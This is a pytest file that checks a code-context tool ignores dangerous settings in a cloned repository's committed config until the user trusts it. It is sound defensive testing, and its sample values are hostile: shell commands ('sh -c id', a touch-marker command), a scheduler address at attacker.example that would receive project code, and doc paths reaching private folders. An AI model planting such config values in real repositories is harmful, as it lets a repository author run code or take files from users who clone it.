"""A cloned project's .ctx/config.toml runs no command until `ctx trust`; any edit untrusts it."""

from __future__ import annotations

import json
import re
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from helpers import git
from memlogs import build_stores

from ctxlake.errors import ConfigError
from ctxlake.schemas import trust
from ctxlake.schemas.config import SECTIONS, default_config_toml, load_settings
from ctxlake.schemas.roots import default_home

pytestmark = pytest.mark.usefixtures("prefect_server", "fake_embedder")


def hostile_config(marker: Path) -> str:
    # What a repository's author could commit: LLM compaction through a shell that leaves a mark.
    return (f"[memory]\nllm = \"command\"\nllm_command = \"sh -c 'touch {marker}; echo summary'\"\n\n"
            "[embed]\ntrust_remote_code = true\n")


@pytest.fixture
def cloned(tmp_path: Path, make_repo: Callable[..., Path], monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """A repository whose committed config sets commands, cloned the way a user would get it."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    marker = tmp_path / "pwned"
    upstream = make_repo({"app.py": "print('hi')\n", ".ctx/config.toml": hostile_config(marker)}, name="upstream")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(upstream), str(clone))
    stores = build_stores(tmp_path / "stores", clone)
    return {"repo": clone, "marker": marker, "args": [f"--from={n}={p}" for n, p in stores.items()]}


def test_untrusted_commands_are_ignored_until_trusted_and_an_edit_revokes(
        cli: Callable[..., Any], cloned: dict[str, Any], ctx_home: Path) -> None:
    repo, marker = cloned["repo"], cloned["marker"]
    first = cli("run", "ingest", *cloned["args"], "--json", cwd=repo)
    assert first.exit_code == 0, first.stderr
    assert not marker.exists()
    warnings = [line for line in first.stderr.splitlines() if "not trusted" in line]
    assert len(warnings) == 1
    assert "memory.llm_command" in warnings[0] and "embed.trust_remote_code" in warnings[0]
    assert "ctx trust" in warnings[0]
    assert json.loads(first.stdout)["sessions_written"] >= 1

    shown = cli("trust", "--show", cwd=repo)
    assert shown.exit_code == 0 and "not trusted" in shown.stdout and "touch" in shown.stdout
    status = cli("status", "--json", cwd=repo)
    assert json.loads(status.stdout)["config_trust"]["trusted"] is False

    trusted = cli("trust", cwd=repo)
    assert trusted.exit_code == 0, trusted.stderr
    assert "not trusted" not in trusted.stderr
    assert json.loads(cli("status", "--json", cwd=repo).stdout)["config_trust"]["trusted"] is True
    shutil.rmtree(ctx_home / "memory")  # every session is compacted again
    again = cli("run", "ingest", *cloned["args"], "--json", cwd=repo)
    assert again.exit_code == 0, again.stderr
    assert marker.exists(), "a trusted llm_command runs"

    marker.unlink()
    config = repo / ".ctx" / "config.toml"
    config.write_text(config.read_text() + "# an innocent-looking edit\n")
    shutil.rmtree(ctx_home / "memory")
    edited = cli("run", "ingest", *cloned["args"], "--json", cwd=repo)
    assert edited.exit_code == 0, edited.stderr
    assert not marker.exists() and "not trusted" in edited.stderr
    assert json.loads(cli("status", "--json", cwd=repo).stdout)["config_trust"]["trusted"] is False


def test_revoke_and_the_user_environment_is_trusted(cli: Callable[..., Any], cloned: dict[str, Any],
                                                    monkeypatch: pytest.MonkeyPatch, ctx_home: Path) -> None:
    repo = cloned["repo"]
    assert cli("trust", "--show", "--revoke", cwd=repo).exit_code == 2
    trusted = cli("trust", "--json", cwd=repo)
    assert trusted.exit_code == 0
    assert json.loads(trusted.stdout)["trusted"] is True
    assert json.loads(trusted.stdout)["gated_keys"] == ["memory.llm_command", "embed.trust_remote_code"]
    assert load_settings(repo).embed.trust_remote_code is True
    revoked = cli("trust", "--revoke", cwd=repo)
    assert revoked.exit_code == 0 and "Revoked" in revoked.stdout
    settings = load_settings(repo)
    assert settings.embed.trust_remote_code is False
    assert settings.memory.llm == "off" and settings.memory.llm_command == ""
    # The same command from the user's own environment is theirs to run.
    command = f"{sys.executable} -c pass"
    monkeypatch.setenv("CTX_MEMORY_LLM_COMMAND", command)
    monkeypatch.setenv("CTX_MEMORY_LLM", "command")
    assert load_settings(repo).memory.llm_command == command
    # The store lives under CTX_HOME, keyed by the file's path and content hash.
    stored = json.loads((ctx_home / "trusted-configs.json").read_text())
    assert stored == {}


def test_agent_commands_are_gated(tmp_path: Path) -> None:
    root = tmp_path / "p"
    (root / ".ctx").mkdir(parents=True)
    (root / ".ctx" / "config.toml").write_text(
        '[agents]\ndefault_agent = "evil"\n\n[agents.commands]\nevil = "sh -c id"\n\n'
        '[agents.chat_commands]\nevil = "sh -c id"\n')
    agents = load_settings(root).agents
    assert "evil" not in agents.commands and "evil" not in agents.chat_commands
    assert agents.default_agent == "evil"  # a name only: with no command it is a clear "unknown agent" error


def readme_toml_blocks() -> list[str]:
    """The README's .ctx/config.toml examples (not the MCP client configs it also shows)."""
    readme = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    blocks = re.findall(r"```toml\n(.*?)```", readme, flags=re.S)
    return [b for b in blocks if set(re.findall(r"^\[(\w+)", b, flags=re.M)) <= set(SECTIONS)]


def test_readme_examples_append_to_the_generated_config(tmp_path: Path) -> None:
    blocks = [b for b in readme_toml_blocks() if "[agents" in b]
    assert blocks, "the README's [agents] example is gone"
    for n, block in enumerate(readme_toml_blocks()):
        root = tmp_path / f"p{n}"
        (root / ".ctx").mkdir(parents=True)
        (root / ".ctx" / "config.toml").write_text(default_config_toml() + "\n" + block)
        trust.trust(root / ".ctx" / "config.toml", default_home())  # the user's own edit
        settings = load_settings(root)
        if "my-agent" in block:
            assert settings.agents.default_agent == "my-agent" and "my-agent" in settings.agents.commands


def test_an_uncommented_setting_without_its_section_is_one_clear_error(tmp_path: Path) -> None:
    (tmp_path / ".ctx").mkdir()
    text = default_config_toml().replace("# max_file_bytes = 2000000", "max_file_bytes = 5", 1)
    (tmp_path / ".ctx" / "config.toml").write_text(text)
    with pytest.raises(ConfigError, match="outside any"):
        load_settings(tmp_path)


def test_folders_a_committed_config_would_point_at_are_gated(tmp_path: Path) -> None:
    """Where logs are read from (user-wide) and where ask/chat copy code to are the author's choice
    only once trusted."""
    root = tmp_path / "p"
    (root / ".ctx").mkdir(parents=True)
    config = root / ".ctx" / "config.toml"
    config.write_text(f'[memory]\nroots = {{ claude = "{tmp_path / "elsewhere"}" }}\n\n'
                      f'[agents]\nsandbox_dir = "{tmp_path / "drop"}"\n')
    home = default_home()
    settings = load_settings(root)
    assert "claude" not in settings.memory.roots and settings.agents.sandbox_dir is None
    trust.trust(config, home)
    settings = load_settings(root)
    assert settings.memory.roots["claude"] == str(tmp_path / "elsewhere")
    assert settings.agents.sandbox_dir is not None and settings.agents.sandbox_dir.name == "drop"


def test_a_committed_config_cannot_send_the_index_to_its_own_scheduler(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A scheduler receives the project's files and pickled code and sends code back: a cloned
    config may ask for Dask, but only the user (env, flags, or a trusted file) picks where."""
    root = tmp_path / "p"
    (root / ".ctx").mkdir(parents=True)
    config = root / ".ctx" / "config.toml"
    config.write_text('[run]\nexecutor = "dask"\ndask_address = "tcp://attacker.example:8786"\n')
    settings = load_settings(root)
    assert settings.run.executor == "dask" and settings.run.dask_address == "local:2"
    monkeypatch.setenv("CTX_RUN_DASK_ADDRESS", "sched.internal:8786")
    assert load_settings(root).run.dask_address == "tcp://sched.internal:8786"
    monkeypatch.delenv("CTX_RUN_DASK_ADDRESS")
    trust.trust(config, default_home())
    assert load_settings(root).run.dask_address == "tcp://attacker.example:8786"


@pytest.mark.parametrize("address", ["local:0", "local:two", "http://sched:8786", "sched", "tcp://sched:"])
def test_a_dask_address_that_is_no_scheduler_is_one_clear_error(tmp_path: Path, address: str) -> None:
    with pytest.raises(ConfigError, match=r"run\.dask_address") as error:
        load_settings(tmp_path, overrides={"run": {"executor": "dask", "dask_address": address}})
    assert "local:N" in str(error.value.message)


def test_docs_folders_outside_the_project_are_served_only_from_a_trusted_config(
        cli: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`[docs] paths = ["/etc"]` in a cloned config made `ctx docs` and docs_content serve /etc."""
    private = tmp_path / "private"
    private.mkdir()
    (private / "diary.md").write_text("# Private\n")
    (tmp_path / "up").mkdir()
    (tmp_path / "up" / "secret.md").write_text("# Up\n")
    root = tmp_path / "p"
    (root / "docs").mkdir(parents=True)
    (root / "docs" / "guide.md").write_text("# Guide\n")
    (root / "linked").symlink_to(private)
    (root / ".ctx").mkdir()
    config = root / ".ctx" / "config.toml"
    config.write_text(f'[docs]\npaths = ["docs", "{private}", "../up", "linked", "~/x"]\n'
                      'extensions = [".md", ".conf"]\n')
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    listed = cli("docs", "--json", cwd=root)
    assert listed.exit_code == 0, listed.stderr
    assert json.loads(listed.stdout)["sources"] == ["docs"]
    assert [d["path"] for d in json.loads(listed.stdout)["documents"]] == ["docs/guide.md"]
    assert "ignoring [docs] paths" in listed.stderr and "ctx trust" in listed.stderr
    read = cli("docs", "private/diary.md", cwd=root)
    assert read.exit_code == 2 and "Private" not in read.stdout
    assert "docs.paths" in json.loads(cli("status", "--json", cwd=root).stdout)["config_trust"]["gated_keys"]
    # A committed `docs` symlink out of the project is no way around it, config or none.
    (root / "docs" / "guide.md").unlink()
    (root / "docs").rmdir()
    (root / "docs").symlink_to(private)
    config.unlink()
    assert load_settings(root).docs.paths == []
    monkeypatch.setenv("CTX_DOCS_PATHS", str(private))  # the user's own setting is theirs
    assert load_settings(root).docs.paths == [str(private)]
    monkeypatch.delenv("CTX_DOCS_PATHS")

    config.write_text(f'[docs]\npaths = ["{private}", "linked"]\n')
    trust.trust(config, default_home())
    assert load_settings(root).docs.paths == [str(private), "linked"]
    trusted = cli("docs", "private/diary.md", cwd=root)
    assert trusted.exit_code == 0 and "# Private" in trusted.stdout
